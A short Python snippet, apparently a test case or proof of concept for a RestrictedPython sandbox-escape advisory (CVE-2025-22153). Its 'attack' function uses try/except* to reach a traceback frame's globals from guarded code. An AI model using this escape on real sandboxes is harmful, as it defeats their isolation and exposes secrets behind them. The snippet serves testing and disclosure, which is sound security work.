# mypy: ignore-errors
# Technique: `try/except*` wraps what it catches in an ExceptionGroup built by the
# interpreter; a restricted policy that type-checks handlers can be confused by it.
# Advisory: CVE-2025-22153 (RestrictedPython: type confusion through try/except* on
# Python 3.11+ let guarded code reach unguarded objects)
def attack(secret_path, canary_path):
    try:
        raise ValueError(secret_path)
    except* ValueError as eg:
        return [repr(e.__traceback__.tb_frame.f_globals) for e in eg.exceptions]
